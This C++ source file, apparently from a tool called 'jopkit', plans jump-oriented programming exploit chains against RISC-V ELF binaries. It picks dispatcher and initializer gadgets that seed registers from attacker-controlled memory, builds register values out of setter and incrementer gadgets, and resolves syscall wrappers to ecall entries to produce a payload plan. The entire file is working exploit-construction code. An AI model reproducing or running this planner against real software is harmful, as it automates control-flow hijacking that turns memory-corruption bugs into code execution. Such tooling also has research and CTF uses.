#include "jopkit/planner.hpp"

#include <algorithm>
#include <cstdio>

namespace jopkit {

namespace {

constexpr uint32_t kRepeatCap = 65536;

std::string hex(uint64_t v) {
  char b[32];
  std::snprintf(b, sizeof b, "0x%llx", static_cast<unsigned long long>(v));
  return b;
}

}  // namespace

const char* purpose_name(Purpose p) {
  switch (p) {
    case Purpose::InitLiteral: return "init-literal";
    case Purpose::Increment: return "increment";
    case Purpose::LoadAddress: return "load-address";
    case Purpose::SetFd: return "set-fd";
    case Purpose::Syscall: return "syscall";
    case Purpose::Initializer: return "initializer";
  }
  return "?";
}

std::optional<Purpose> purpose_from_name(std::string_view name) {
  for (Purpose p : {Purpose::InitLiteral, Purpose::Increment,
                    Purpose::LoadAddress, Purpose::SetFd, Purpose::Syscall,
                    Purpose::Initializer}) {
    if (name == purpose_name(p)) return p;
  }
  return std::nullopt;
}

std::vector<ChainStep> synthesize_literal(
    uint64_t target, uint8_t reg, const std::vector<LiteralSetter>& setters,
    const std::vector<LiteralIncrementer>& incrementers) {
  struct Pick {
    uint64_t total = ~0ull;
    const LiteralSetter* set = nullptr;
    const LiteralIncrementer* inc = nullptr;
    uint64_t repeats = 0;
  } best;

  for (const LiteralSetter& s : setters) {
    if (s.value == target && 1 < best.total) {
      best = {1, &s, nullptr, 0};
      continue;
    }
    if (s.value > target) continue;
    for (const LiteralIncrementer& k : incrementers) {
      if (k.delta == 0) continue;
      const uint64_t gap = target - s.value;
      if (gap % k.delta != 0) continue;
      const uint64_t n = gap / k.delta;
      if (n > kRepeatCap) continue;
      const uint64_t total = 1 + n;
      if (total < best.total) best = {total, &s, &k, n};
    }
  }

  if (!best.set)
    throw PlanError(PlanError::Kind::Unsynthesizable,
                    "no setter/incrementer pair reaches " + hex(target) +
                        " in " + reg_name(reg));

  std::vector<ChainStep> steps;
  ChainStep set;
  set.gadget_addr = best.set->gadget_addr;
  set.purpose = Purpose::InitLiteral;
  set.target_reg = reg;
  set.rationale = std::string("establishes ") + reg_name(reg) + " = " +
                  hex(best.set->value);
  steps.push_back(std::move(set));
  if (best.repeats > 0) {
    ChainStep inc;
    inc.gadget_addr = best.inc->gadget_addr;
    inc.purpose = Purpose::Increment;
    inc.repeat = static_cast<uint32_t>(best.repeats);
    inc.target_reg = reg;
    inc.rationale = std::string("adds ") + std::to_string(best.inc->delta) +
                    " to " + reg_name(reg) + ", repeated " +
                    std::to_string(best.repeats) + " times";
    steps.push_back(std::move(inc));
  }
  return steps;
}

namespace {

// Linear decode from addr until an ecall; empty result when anything else
// ends the walk first.
std::vector<Instruction> window_to_ecall(const ElfImage& image, uint64_t addr,
                                         unsigned limit) {
  std::vector<Instruction> out;
  for (unsigned i = 0; i < limit; ++i) {
    auto w = image.word_at(addr + i * 4);
    if (!w) return {};
    auto ins = decode(*w, addr + i * 4);
    if (!ins) return {};
    out.push_back(*ins);
    if (ins->mnemonic == Mnemonic::Ecall) return out;
    if (is_control_transfer(ins->mnemonic)) return {};
  }
  return {};
}

}  // namespace

ChainStep resolve_syscall_entry(const ChainGoal& goal, const ElfImage& image,
                                const SyscallConvention& conv,
                                const SyscallResolution& res) {
  auto number = goal.syscall_number ? goal.syscall_number
                                    : conv.number_of(goal.syscall_name);
  if (!number)
    throw PlanError(PlanError::Kind::SyscallNotFound,
                    "no number known for syscall '" + goal.syscall_name + "'");

  ChainStep step;
  step.purpose = Purpose::Syscall;
  step.target_reg = conv.id_register;

  if (res.explicit_addr) {
    step.gadget_addr = *res.explicit_addr;
    step.rationale = "user-supplied system-call entry";
    return step;
  }

  const std::string name = res.symbol.value_or(goal.syscall_name);
  uint64_t base = 0;
  if (const Symbol* sym = image.symbol(name)) {
    base = sym->value;
  } else {
    bool found = false;
    for (const PltEntry& e : image.plt_entries()) {
      if (e.name == name) {
        base = e.stub_addr;
        found = true;
        break;
      }
    }
    if (!found)
      throw PlanError(PlanError::Kind::SyscallNotFound,
                      "no symbol or PLT entry named '" + name + "'");
  }

  if (res.offset) {
    step.gadget_addr = base + *res.offset;
    step.rationale = "wrapper '" + name + "' plus configured offset";
    return step;
  }

  // Scan the wrapper for its ecall, then take the shortest tail that still
  // establishes the id register.
  std::vector<Instruction> body;
  for (unsigned i = 0; i < 64; ++i) {
    auto w = image.word_at(base + i * 4);
    if (!w) break;
    auto ins = decode(*w, base + i * 4);
    if (!ins) break;
    body.push_back(*ins);
    if (ins->mnemonic == Mnemonic::Ecall) break;
    if (is_control_transfer(ins->mnemonic)) {
      body.clear();
      break;
    }
  }
  if (body.empty() || body.back().mnemonic != Mnemonic::Ecall)
    throw PlanError(PlanError::Kind::SyscallNotFound,
                    "no ecall reachable inside wrapper '" + name + "'");

  for (size_t j = body.size() - 1; j-- > 0;) {
    std::vector<Instruction> tail(body.begin() + j, body.end() - 1);
    ConstState st = eval_window(tail, &image, image.xlen());
    auto id = st.regs[conv.id_register];
    if (id && *id == *number) {
      step.gadget_addr = base + j * 4;
      step.rationale = "wrapper '" + name + "' entered at the " +
                       std::string(reg_name(conv.id_register)) +
                       "-setting instruction";
      return step;
    }
  }
  throw PlanError(PlanError::Kind::SyscallNotFound,
                  "wrapper '" + name + "' never sets " +
                      reg_name(conv.id_register) + " to " +
                      std::to_string(*number));
}

ChainPlan plan_chain(const ChainGoal& goal,
                     const std::vector<GadgetCandidate>& safe_catalog,
                     const DispatcherGadget& dispatcher,
                     const GadgetCandidate& initializer, const ElfImage& image,
                     const ScanOptions& opt, const SyscallResolution& res) {
  const ReservedPolicy& policy = opt.policy;
  const SyscallConvention& conv = opt.conv;

  if (!policy.valid())
    throw PlanError(PlanError::Kind::InvalidGoal,
                    "reserved-register policy is degenerate");
  for (const auto& [reg, value] : goal.required_regs) {
    (void)value;
    if (reg == 0 || reg > 31)
      throw PlanError(PlanError::Kind::InvalidGoal,
                      "goal constrains an invalid register index");
    if (is_reserved(reg, policy) || reg == dispatcher.table_cursor_reg ||
        reg == dispatcher.jump_reg)
      throw PlanError(PlanError::Kind::InvalidGoal,
                      std::string("goal constrains reserved register ") +
                          reg_name(reg));
  }

  if (initializer.family != Family::Initializer)
    throw PlanError(PlanError::Kind::NoInitializer,
                    "selected gadget is not an initializer");

  // The initializer seeds the policy registers, so a dispatcher walking any
  // other cursor (a function epilogue, say) cannot be driven.
  if (dispatcher.table_cursor_reg != policy.table_cursor_reg)
    throw PlanError(PlanError::Kind::NoDispatcher,
                    std::string("dispatcher walks ") +
                        reg_name(dispatcher.table_cursor_reg) +
                        " but the policy reserves " +
                        reg_name(policy.table_cursor_reg));
  if (is_reserved(dispatcher.jump_reg, policy))
    throw PlanError(PlanError::Kind::NoDispatcher,
                    "dispatcher jump register collides with the reserved set");

  auto number = goal.syscall_number ? goal.syscall_number
                                    : conv.number_of(goal.syscall_name);
  if (auto it = goal.required_regs.find(conv.id_register);
      it != goal.required_regs.end() && number && it->second != *number)
    throw PlanError(PlanError::Kind::InvalidGoal,
                    "goal pins the id register to a different number than "
                    "the requested syscall");

  // Seed slots: the initializer must pull both reserved values from memory
  // for the payload to place them.
  SeedSlot slots[2];
  const uint8_t seeded[2] = {policy.dispatcher_reg, policy.table_cursor_reg};
  for (int k = 0; k < 2; ++k) {
    bool found = false;
    for (auto it = initializer.instructions.rbegin();
         it != initializer.instructions.rend(); ++it) {
      if (!it->rd || *it->rd != seeded[k]) continue;
      if (!is_load(it->mnemonic))
        throw PlanError(PlanError::Kind::NoInitializer,
                        std::string("initializer sources ") +
                            reg_name(seeded[k]) +
                            " from a register, not from attacker memory");
      slots[k] = {*it->rs1, *it->imm, seeded[k]};
      found = true;
      break;
    }
    if (!found)
      throw PlanError(PlanError::Kind::NoInitializer,
                      std::string("initializer never writes ") +
                          reg_name(seeded[k]));
  }

  ChainStep sys = resolve_syscall_entry(goal, image, conv, res);
  std::vector<Instruction> sys_window =
      window_to_ecall(image, sys.gadget_addr, 64);
  if (sys_window.empty())
    throw PlanError(PlanError::Kind::SyscallNotFound,
                    "system-call entry does not run straight into an ecall");
  GadgetSummary sys_summary = summarize(sys_window);

  for (const auto& [reg, value] : goal.required_regs) {
    (void)value;
    if (reg != conv.id_register && mask_has(sys_summary.regs_written, reg))
      throw PlanError(PlanError::Kind::UnsatisfiableRegister,
                      std::string("system-call window clobbers ") +
                          reg_name(reg),
                      reg);
  }
  for (uint8_t r : {policy.dispatcher_reg, policy.table_cursor_reg}) {
    if (mask_has(sys_summary.regs_written, r))
      throw PlanError(PlanError::Kind::UnsatisfiableRegister,
                      std::string("system-call window writes reserved ") +
                          reg_name(r),
                      r);
  }

  // Targets the chain itself must produce, most significant register first;
  // producers are prepended, so the emitted order is ascending.
  std::vector<uint8_t> targets;
  for (const auto& [reg, value] : goal.required_regs) {
    (void)value;
    if (reg != conv.id_register) targets.push_back(reg);
  }
  std::sort(targets.rbegin(), targets.rend());

  if (mask_has(dispatcher.side_writes, policy.dispatcher_reg))
    throw PlanError(PlanError::Kind::NoDispatcher,
                    "dispatcher window clobbers the reentry register");

  for (uint8_t t : targets) {
    if (mask_has(dispatcher.side_writes, t))
      throw PlanError(PlanError::Kind::UnsatisfiableRegister,
                      std::string("dispatcher clobbers ") + reg_name(t) +
                          " every cycle",
                      t);
  }

  // Usable producers: strict-terminator functional gadgets only.
  std::vector<const GadgetCandidate*> pool;
  for (const GadgetCandidate& c : safe_catalog) {
    if (c.family == Family::Initializer) continue;
    if (c.relaxed_imm) continue;
    if (c.summary.has_opaque_effect) continue;
    pool.push_back(&c);
  }
  std::sort(pool.begin(), pool.end(),
            [](const GadgetCandidate* a, const GadgetCandidate* b) {
              if (a->length() != b->length()) return a->length() < b->length();
              return a->start_addr < b->start_addr;
            });

  std::vector<ChainStep> steps;
  std::map<uint64_t, const GadgetCandidate*> chosen;  // addr -> gadget
  uint32_t satisfied = reg_bit(conv.id_register);

  for (size_t idx = 0; idx < targets.size(); ++idx) {
    const uint8_t reg = targets[idx];
    const uint64_t want = goal.required_regs.at(reg);

    for (const ChainStep& s : steps) {
      auto it = chosen.find(s.gadget_addr);
      if (it != chosen.end() &&
          mask_has(it->second->summary.regs_written, reg))
        throw PlanError(PlanError::Kind::UnsatisfiableRegister,
                        std::string("later chain steps overwrite ") +
                            reg_name(reg),
                        reg);
    }
    if (mask_has(sys_summary.regs_written, reg))
      throw PlanError(PlanError::Kind::UnsatisfiableRegister,
                      std::string("system-call window overwrites ") +
                          reg_name(reg),
                      reg);

    uint32_t untouchable = satisfied;
    for (size_t later = idx + 1; later < targets.size(); ++later)
      untouchable |= reg_bit(targets[later]);
    untouchable &= ~reg_bit(reg);

    std::vector<LiteralSetter> setters;
    std::vector<LiteralIncrementer> incrementers;
    std::map<uint64_t, const GadgetCandidate*> by_addr;

    for (const GadgetCandidate* c : pool) {
      if (!mask_has(c->summary.regs_written, reg)) continue;
      if (c->summary.regs_written & untouchable) continue;

      ConstState from_scratch =
          eval_window(c->instructions, &image, image.xlen());
      if (from_scratch.regs[reg]) {
        if (!by_addr.count(c->start_addr)) by_addr[c->start_addr] = c;
        setters.push_back({c->start_addr, *from_scratch.regs[reg]});
        continue;
      }

      // Affine probe: a gadget is an incrementer for reg when its output is
      // the input plus a fixed delta.
      ConstState at0, at1k;
      at0.regs[reg] = 0;
      at1k.regs[reg] = 1000;
      ConstState r0 = eval_window(c->instructions, &image, image.xlen(), at0);
      ConstState r1k =
          eval_window(c->instructions, &image, image.xlen(), at1k);
      if (!r0.regs[reg] || !r1k.regs[reg]) continue;
      const uint64_t delta = *r0.regs[reg];
      if (delta == 0) continue;
      if (*r1k.regs[reg] != 1000 + delta) continue;
      if (static_cast<int64_t>(delta) <= 0) continue;
      if (!by_addr.count(c->start_addr)) by_addr[c->start_addr] = c;
      incrementers.push_back({c->start_addr, delta});
    }

    std::vector<ChainStep> produced;
    try {
      produced = synthesize_literal(want, reg, setters, incrementers);
    } catch (const PlanError&) {
      throw PlanError(PlanError::Kind::UnsatisfiableRegister,
                      std::string("no non-clobbering producer found for ") +
                          reg_name(reg),
                      reg);
    }

    for (ChainStep& s : produced) {
      const GadgetCandidate* c = by_addr.at(s.gadget_addr);
      chosen[s.gadget_addr] = c;
      if (s.purpose == Purpose::InitLiteral) {
        if (!c->summary.mem_reads.empty()) {
          s.purpose = Purpose::LoadAddress;
          s.rationale = std::string("loads ") + reg_name(reg) + " = " +
                        hex(want) + " through memory";
        } else if (reg == kRegA0) {
          s.purpose = Purpose::SetFd;
          s.rationale =
              std::string("sets the file descriptor: a0 = ") + hex(want);
        }
      }
    }
    steps.insert(steps.begin(), produced.begin(), produced.end());
    satisfied |= reg_bit(reg);
  }

  sys.rationale += "; traps with " +
                   std::string(reg_name(conv.id_register)) + " = " +
                   std::to_string(number ? *number : 0);
  steps.push_back(sys);

  ChainPlan plan;
  plan.dispatcher = dispatcher;
  plan.goal = goal;
  plan.policy = policy;
  plan.xlen = image.xlen();
  plan.dispatcher_slot = slots[0];
  plan.cursor_slot = slots[1];
  plan.steps = std::move(steps);

  plan.initializer.gadget_addr = initializer.start_addr;
  plan.initializer.purpose = Purpose::Initializer;
  plan.initializer.target_reg = policy.dispatcher_reg;
  plan.initializer.rationale =
      std::string("seeds ") + reg_name(policy.dispatcher_reg) + " and " +
      reg_name(policy.table_cursor_reg) + " from attacker memory";

  // Predicted trap state, folded over the step summaries.
  std::map<uint8_t, uint64_t> state;
  state[policy.dispatcher_reg] = dispatcher.reentry_addr;
  auto clobber = [&](uint32_t mask) {
    for (uint8_t r = 1; r < 32; ++r)
      if (mask_has(mask, r)) state.erase(r);
  };
  clobber(summarize(initializer.instructions).regs_written &
          ~reg_bit(policy.dispatcher_reg));
  for (const ChainStep& s : plan.steps) {
    if (s.purpose == Purpose::Syscall) {
      clobber(sys_summary.regs_written);
      if (number) state[conv.id_register] = *number;
      continue;
    }
    const GadgetCandidate* c = chosen.at(s.gadget_addr);
    ConstState in;
    if (auto it = state.find(s.target_reg); it != state.end())
      in.regs[s.target_reg] = it->second;
    clobber(c->summary.regs_written);
    ConstState outs = eval_window(c->instructions, &image, image.xlen(), in);
    for (uint8_t r = 1; r < 32; ++r) {
      if (!mask_has(c->summary.regs_written, r)) continue;
      if (outs.regs[r]) state[r] = *outs.regs[r];
    }
    if (s.purpose == Purpose::Increment && s.repeat > 1) {
      // The eval above applied one iteration.
      ConstState probe0;
      probe0.regs[s.target_reg] = 0;
      ConstState d = eval_window(c->instructions, &image, image.xlen(), probe0);
      if (d.regs[s.target_reg] && state.count(s.target_reg))
        state[s.target_reg] += (s.repeat - 1) * *d.regs[s.target_reg];
    }
  }
  clobber(dispatcher.side_writes);
  state[dispatcher.jump_reg] = sys.gadget_addr;
  state.erase(dispatcher.table_cursor_reg);
  state[policy.dispatcher_reg] = dispatcher.reentry_addr;

  for (const auto& [reg, want] : goal.required_regs) {
    auto it = state.find(reg);
    if (it == state.end() || it->second != want)
      throw PlanError(PlanError::Kind::UnsatisfiableRegister,
                      std::string("planned steps do not reproduce ") +
                          reg_name(reg) + " = " + hex(want),
                      reg);
  }
  plan.predicted_final_state = std::move(state);
  return plan;
}

}  // namespace jopkit
